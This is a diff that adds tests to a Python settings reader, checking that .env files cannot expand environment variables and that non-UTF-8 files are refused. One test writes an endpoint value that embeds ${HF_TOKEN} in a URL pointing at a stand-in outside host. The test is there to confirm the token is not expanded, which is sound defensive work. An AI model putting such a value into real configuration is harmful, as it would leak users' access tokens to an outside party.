@@ -74,6 +74,20 @@ def test_a_hub_named_by_a_file_does_not_get_the_users_token(tmp_path: Path) -> N
     assert read_settings({"HF_HOME": str(tmp_path)}, file).hub_token == "hf_theirs"
 
 
+def test_a_file_cannot_read_the_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("HF_TOKEN", "hf_secret")
+    file = tmp_path / ".env"
+    file.write_text("HF_ENDPOINT=http://elsewhere.example/${HF_TOKEN}\n")
+    assert "hf_secret" not in read_settings({"HF_TOKEN": "hf_secret"}, file).endpoint
+
+
+def test_a_file_that_is_not_text_is_refused(tmp_path: Path) -> None:
+    file = tmp_path / ".env"
+    file.write_bytes(b"EMBEDHUB_MODEL=\xff\xfe\n")
+    with pytest.raises(SettingError, match="UTF-8"):
+        read_settings({}, file)
+
+
 def test_every_setting_says_what_it_is() -> None:
     for setting in table():
         assert setting.metadata["env"].isupper()
